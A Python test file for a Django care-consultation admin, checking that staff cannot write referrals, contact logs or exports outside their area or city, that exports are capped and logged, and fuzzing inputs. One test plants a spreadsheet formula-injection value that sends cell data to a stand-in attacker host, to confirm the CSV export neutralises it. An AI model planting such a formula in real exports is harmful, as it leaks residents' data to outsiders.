"""Writes into consultations, from the attacker's side (#5 findings 1, 6, 9, 10 and 12).

Reads were already refused; these are the write paths: referrals and contact logs smuggled into
another area's or city's case, cases moved or filed in another area, `is_sample` ticked on a real
case, bulk exports, and the history pages. And the daily work itself: a coordinator records the
next call and a referral on her own case, signed in with her role.
"""

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hyp_settings
from hypothesis import strategies as st

from carenet.directory.models import Area, Organisation
from consultations.models import AccessLog, Consultation, ContactLog, Referral
from salons.models import Salon
from tests.admin_forms import admin_form_data

pytestmark = pytest.mark.django_db


def admin_url(name, *args):
    return reverse(f"admin:consultations_{name}", args=args)


# --- Finding 1: referrals (and contact logs) into another area's or city's case ---


@pytest.mark.parametrize("who", ["osawa_client", "tama_client"])
def test_a_referral_cannot_be_attached_to_a_case_i_cannot_see(request, who, inokashira_case):
    client = request.getfixturevalue(who)
    response = client.post(
        admin_url("referral_add"),
        {"consultation": inokashira_case.pk, "service": "OSAWA-REF", "referred_on": "2026-11-20"},
    )
    assert response.status_code == 200
    assert "consultation" in response.context["adminform"].form.errors
    assert not Referral.objects.filter(consultation=inokashira_case).exists()


@pytest.mark.parametrize("who", ["osawa_client", "tama_client"])
def test_a_contact_log_cannot_be_attached_to_a_case_i_cannot_see(request, who, inokashira_case):
    client = request.getfixturevalue(who)
    client.post(
        admin_url("contactlog_add"),
        {
            "consultation": inokashira_case.pk,
            "at_0": "2026-11-20",
            "at_1": "10:00",
            "method": "phone",
            "what_happened": "書き込み",
        },
    )
    assert not ContactLog.objects.filter(consultation=inokashira_case).exists()


def test_my_referral_cannot_be_moved_onto_another_citys_case(osawa_client, osawa_case, tama_case):
    referral = Referral.objects.create(consultation=osawa_case, service="OSAWA-OWN-REF")
    page = osawa_client.get(admin_url("referral_change", referral.pk))
    assert "consultation" not in page.context["adminform"].form.fields  # read-only on change
    data = admin_form_data(page)
    data["consultation"] = str(tama_case.pk)
    osawa_client.post(admin_url("referral_change", referral.pk), data)
    referral.refresh_from_db()
    assert referral.consultation_id == osawa_case.pk


def test_the_consultation_picker_offers_only_cases_i_can_see(
    osawa_client, osawa_case, inokashira_case
):
    params = {"app_label": "consultations", "model_name": "referral", "field_name": "consultation"}
    response = osawa_client.get(reverse("admin:autocomplete"), {**params, "term": ""})
    ids = {int(r["id"]) for r in response.json()["results"]}
    assert ids == {osawa_case.pk}


# --- Finding 12: staff record follow-ups on their own cases, with their role ---


def test_coordinator_records_a_call_and_a_referral_on_her_case(inokashira_client, inokashira_case):
    page = inokashira_client.get(admin_url("consultation_change", inokashira_case.pk))
    prefixes = {inline.formset.prefix for inline in page.context["inline_admin_formsets"]}
    assert prefixes == {"contacts", "referrals"}  # both inlines are there for her
    data = admin_form_data(page)
    place = Salon.objects.get(slug="fureai-salon-inokashira")
    data.update(
        {
            "contacts-TOTAL_FORMS": "1",
            "contacts-0-at_0": "2026-11-20",
            "contacts-0-at_1": "10:00",
            "contacts-0-method": "phone",
            "contacts-0-what_happened": "娘さんから電話。来週訪問する。",
            "contacts-0-next_step": "自宅訪問",
            "contacts-0-next_step_on": "2026-11-27",
            "referrals-TOTAL_FORMS": "1",
            "referrals-0-salon": str(place.pk),
            "referrals-0-referred_on": "2026-11-20",
            "referrals-0-outcome": "pending",
        }
    )
    response = inokashira_client.post(admin_url("consultation_change", inokashira_case.pk), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    log = ContactLog.objects.get(consultation=inokashira_case)
    assert log.next_step == "自宅訪問"
    assert log.staff.username == "co-inokashira"
    assert Referral.objects.get(consultation=inokashira_case).salon == place
    assert str(Consultation.objects.get(pk=inokashira_case.pk).follow_up_on) == "2026-11-27"


def test_coordinator_keeps_contact_logs_in_their_own_list(
    inokashira_client, inokashira_case, osawa_case
):
    ContactLog.objects.create(consultation=inokashira_case, method="phone", what_happened="井")
    ContactLog.objects.create(consultation=osawa_case, method="phone", what_happened="大")
    listed = inokashira_client.get(admin_url("contactlog_changelist"))
    assert listed.status_code == 200
    assert {c.consultation_id for c in listed.context["cl"].result_list} == {inokashira_case.pk}
    added = inokashira_client.post(
        admin_url("contactlog_add"),
        {
            "consultation": inokashira_case.pk,
            "at_0": "2026-11-21",
            "at_1": "09:30",
            "method": "home_visit",
            "what_happened": "訪問した",
        },
    )
    assert added.status_code == 302
    assert ContactLog.objects.filter(consultation=inokashira_case).count() == 2


def test_a_referral_to_another_citys_place_is_refused(inokashira_client, inokashira_case):
    tama_place = Salon.objects.get(slug="daredemo-cafe-atago")
    tama_org = Organisation.objects.filter(municipality__slug="tama").first()
    data = admin_form_data(
        inokashira_client.get(admin_url("consultation_change", inokashira_case.pk))
    )
    data.update(
        {
            "referrals-TOTAL_FORMS": "2",
            "referrals-0-salon": str(tama_place.pk),
            "referrals-0-referred_on": "2026-11-20",
            "referrals-0-outcome": "pending",
            "referrals-1-organisation": str(tama_org.pk),
            "referrals-1-referred_on": "2026-11-20",
            "referrals-1-outcome": "pending",
        }
    )
    response = inokashira_client.post(admin_url("consultation_change", inokashira_case.pk), data)
    assert response.status_code == 200
    assert not Referral.objects.filter(consultation=inokashira_case).exists()


# --- Finding 9: area staff write only in their own areas ---


def test_coordinator_cannot_move_her_case_to_another_area(inokashira_client, inokashira_case):
    page = inokashira_client.get(admin_url("consultation_change", inokashira_case.pk))
    assert set(page.context["adminform"].form.fields["area"].queryset) == {
        Area.objects.get(slug="inokashira")
    }
    data = admin_form_data(page)
    data["area"] = str(Area.objects.get(slug="osawa").pk)
    response = inokashira_client.post(admin_url("consultation_change", inokashira_case.pk), data)
    assert response.status_code == 200
    assert Consultation.objects.get(pk=inokashira_case.pk).area.slug == "inokashira"


def test_coordinator_cannot_file_a_case_in_another_area(osawa_client, inokashira_coordinator):
    data = admin_form_data(osawa_client.get(admin_url("consultation_add")))
    data.update(
        {
            "requester": "self",
            "name": "よその地域",
            "area": str(Area.objects.get(slug="inokashira").pk),
            "channel": "phone",
            "summary": "植え付け",
            "assignee": str(inokashira_coordinator.pk),
        }
    )
    response = osawa_client.post(admin_url("consultation_add"), data)
    assert response.status_code == 200
    assert not Consultation.objects.matching_name("よその地域").exists()


def test_coordinator_files_a_case_in_her_own_area(osawa_client):
    data = admin_form_data(osawa_client.get(admin_url("consultation_add")))
    data.update(
        {
            "requester": "self",
            "name": "自分の地域",
            "area": str(Area.objects.get(slug="osawa").pk),
            "channel": "phone",
            "summary": "相談",
        }
    )
    response = osawa_client.post(admin_url("consultation_add"), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    case = Consultation.objects.matching_name("自分の地域").get()
    assert case.area.slug == "osawa" and case.created_by.username == "co-osawa"


def test_staff_cannot_mark_a_real_case_as_sample(inokashira_client, inokashira_case):
    page = inokashira_client.get(admin_url("consultation_change", inokashira_case.pk))
    assert "is_sample" not in page.context["adminform"].form.fields
    data = admin_form_data(page)
    data["is_sample"] = "on"
    assert (
        inokashira_client.post(
            admin_url("consultation_change", inokashira_case.pk), data
        ).status_code
        == 302
    )
    assert Consultation.objects.get(pk=inokashira_case.pk).is_sample is False


# --- Finding 10: exports by supervisors only, with a recorded purpose ---


def export(client, cases, purpose=None):
    data = {"action": "export_csv", "_selected_action": [c.pk for c in cases]}
    if purpose is not None:
        data["purpose"] = purpose
    return client.post(admin_url("consultation_changelist"), data)


def test_area_coordinators_cannot_export(osawa_client, osawa_case):
    page = osawa_client.get(admin_url("consultation_changelist"))
    assert "export_csv" not in dict(page.context["action_form"].fields["action"].choices)
    response = export(osawa_client, [osawa_case], purpose="会議資料")
    assert not response.get("Content-Type", "").startswith("text/csv")
    assert not AccessLog.objects.filter(via="export").exists()


def test_export_asks_the_purpose_first_and_records_it(mitaka_client, inokashira_case, osawa_case):
    ask = export(mitaka_client, [inokashira_case, osawa_case])
    assert ask.status_code == 200 and "書き出す目的" in ask.content.decode()
    assert not AccessLog.objects.filter(via="export").exists()
    response = export(mitaka_client, [inokashira_case, osawa_case], purpose="地域ケア会議の資料")
    assert response["Content-Type"].startswith("text/csv")
    logs = AccessLog.objects.filter(via="export")
    assert {log.consultation_id for log in logs} == {inokashira_case.pk, osawa_case.pk}
    assert {log.purpose for log in logs} == {"地域ケア会議の資料"}


def test_another_citys_supervisor_exports_nothing_of_mine(tama_client, inokashira_case, tama_case):
    response = export(tama_client, [inokashira_case, tama_case], purpose="確認のため")
    body = response.content.decode("utf-8-sig")
    assert "愛宕 一郎" in body and "井の頭 花子" not in body


def test_export_is_capped(mitaka_client, settings, inokashira_case, osawa_case):
    settings.EXPORT_MAX_ROWS = 1
    response = export(mitaka_client, [inokashira_case, osawa_case], purpose="上限の確認")
    assert not response.get("Content-Type", "").startswith("text/csv")
    assert not AccessLog.objects.filter(via="export").exists()


def test_export_neutralises_formulas_in_residents_text(mitaka_client):
    from tests.conftest import make_consultation

    case = make_consultation("inokashira", name='=HYPERLINK("http://evil.example/?d="&C2,"x")')
    body = export(mitaka_client, [case], purpose="数式の確認").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in body
    assert ',"=HYPERLINK' not in body and ",=HYPERLINK" not in body


# --- Finding 6: every page that shows a full record is logged ---


def test_opening_an_old_version_is_logged(mitaka_client, inokashira_case, mitaka_supervisor):
    version = inokashira_case.history.earliest()
    response = mitaka_client.get(
        admin_url("consultation_simple_history", inokashira_case.pk, version.history_id)
    )
    assert response.status_code == 200
    assert "井の頭 花子" in response.content.decode()
    assert AccessLog.objects.filter(
        consultation=inokashira_case, user=mitaka_supervisor, via="history"
    ).exists()


@pytest.mark.parametrize("version", ["abc", "²", "1x"])
def test_a_malformed_version_number_is_not_found(mitaka_client, inokashira_case, version):
    path = f"/admin/consultations/consultation/{inokashira_case.pk}/history/{version}/"
    assert mitaka_client.get(path).status_code == 404


@pytest.mark.parametrize(
    ("term", "status"), [("²", 200), ("No.²", 200), ("１２", 200), ("\x00", 400)]
)
def test_odd_search_terms_are_not_server_errors(mitaka_client, term, status):
    assert (
        mitaka_client.get(admin_url("consultation_changelist"), {"q": term}).status_code == status
    )


# --- A flood of bad input into the staff write paths ---

ids = st.one_of(st.integers(min_value=-5, max_value=10**12).map(str), st.text(max_size=30))
text = st.text(alphabet=st.characters(codec="utf-8"), max_size=200)


@hyp_settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(consultation=ids, salon=ids, service=text, outcome=text, day=text)
def test_a_flood_of_referrals_never_errors_and_never_lands_on_a_case_i_cannot_see(
    osawa_client, inokashira_case, consultation, salon, service, outcome, day
):
    response = osawa_client.post(
        admin_url("referral_add"),
        {
            "consultation": consultation,
            "salon": salon,
            "service": service,
            "outcome": outcome,
            "referred_on": day,
        },
    )
    assert response.status_code in {200, 302}
    assert not Referral.objects.filter(consultation=inokashira_case).exists()


@hyp_settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(term=text, page=ids)
def test_a_flood_of_search_terms_never_errors(osawa_client, inokashira_case, term, page):
    for name in ("consultation_changelist", "contactlog_changelist", "referral_changelist"):
        response = osawa_client.get(admin_url(name), {"q": term, "p": page})
        nul = "\x00" in term + page  # refused before any view: a Japanese 400
        assert response.status_code in ({400} if nul else {200, 302})
        assert "井の頭 花子" not in response.content.decode()
